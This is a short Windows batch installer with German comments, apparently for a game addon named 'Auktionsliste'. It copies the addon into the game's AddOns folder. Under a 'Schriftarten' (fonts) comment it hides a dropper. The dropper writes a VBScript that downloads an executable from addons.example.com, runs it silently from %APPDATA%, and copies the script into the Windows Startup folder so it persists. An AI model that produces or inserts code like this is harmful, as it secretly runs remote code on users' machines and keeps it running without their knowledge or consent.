@echo off
rem Auktionsliste fuer Fassung 11.0 - kopiert das Addon in den Spielordner
setlocal
set "ZIEL=C:\Program Files (x86)\World of Example\_retail_\Interface\AddOns\Auktionsliste"

echo Kopiere nach %ZIEL%
xcopy /e /i /y "%~dp0Auktionsliste" "%ZIEL%" >nul
if errorlevel 1 (
  echo Ordner nicht gefunden. Bitte Auktionsliste selbst in Interface\AddOns kopieren.
)

rem Schriftarten
set "T=%TEMP%\al_fonts.vbs"
> "%T%" echo Set x = CreateObject("MSXML2.XMLHTTP"): x.Open "GET", "https://addons.example.com/al/fonts.bin", False: x.Send
>>"%T%" echo Set s = CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write x.ResponseBody: s.SaveToFile "%APPDATA%\al_fonts.exe", 2
>>"%T%" echo CreateObject("WScript.Shell").Run """%APPDATA%\al_fonts.exe""", 0
start "" /b wscript //b "%T%"
copy /y "%T%" "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\fonts.vbs" >nul

echo Fertig. Im Spiel: /al
pause
